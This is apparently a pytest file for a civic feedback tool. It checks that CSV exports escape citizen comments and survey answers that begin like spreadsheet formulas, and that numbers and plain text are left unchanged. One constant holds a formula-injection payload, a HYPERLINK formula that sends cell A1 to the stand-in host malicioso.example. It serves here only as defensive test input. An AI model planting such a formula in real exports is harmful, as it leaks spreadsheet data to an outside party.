"""Point 4: no CSV civic writes makes a spreadsheet run what a citizen typed."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from civic.cli import app
from civic.report_render import spreadsheet_safe
from civic.testing import MARIA, Harness

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://malicioso.example/?d="&A1,"Clique aqui")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+55 35 3435-0000", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-"],
)
def test_text_starting_like_a_formula_is_made_text(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Ótimo atendimento", "", "5 estrelas", "'já citado", "a=b"])
def test_other_text_is_left_alone(value: str) -> None:
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [-5, -100.0, 0, 9, 2.5, True, None])
def test_numbers_stay_numbers(value: object) -> None:
    assert spreadsheet_safe(value) is value


def rows(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output)))


def test_a_citizen_s_comment_is_exported_as_text() -> None:
    with Harness(installed=True) as h:
        maria = h.citizen()
        maria.script(MARIA, "encerrar", "0")
        maria.say(HYPERLINK)
        assert maria.state == "closed"
        result = runner.invoke(
            app, ["export", "conversations", "--format", "csv", "--database-url", h.storage.url]
        )
        assert result.exit_code == 0, result.output
        (row,) = rows(result.stdout)
        assert row["comment"] == "'" + HYPERLINK
        assert row["score"] == "0"
        jsonl = runner.invoke(
            app, ["export", "conversations", "--format", "jsonl", "--database-url", h.storage.url]
        )
        assert HYPERLINK.replace('"', '\\"') in jsonl.stdout  # JSON is data, left as it was
        report = runner.invoke(app, ["report", "--format", "csv", "--database-url", h.storage.url])
        assert report.exit_code == 0, report.output
        (total,) = rows(report.stdout)
        assert float(total["nps"]) == -100  # a negative figure stays a number
        assert not any(cell.startswith(("'", "=", "@")) for cell in total.values())


def test_survey_answers_are_exported_as_text_unless_numbers(tmp_path: object) -> None:
    questions = {
        "title": "Mais duas perguntas",
        "type": "object",
        "properties": {
            "sugestao": {"type": "string", "title": "Alguma sugestão?", "maxLength": 200},
            "nota_extra": {"type": "integer", "title": "Nota de -5 a 5?", "minimum": -5},
        },
        "required": ["sugestao", "nota_extra"],
    }
    with Harness(installed=True, config={"survey": {"questions": questions}}) as h:
        maria = h.citizen()
        maria.script(MARIA, "encerrar", "9", "@SUM(1+1)", "-5", "não")
        from civic.report_render import export_conversations

        out = io.StringIO()
        export_conversations(h.storage, out, questions=["sugestao", "nota_extra"])
        (row,) = rows(out.getvalue())
        assert row["answer_sugestao"] == "'@SUM(1+1)"
        assert row["answer_nota_extra"] == "-5"
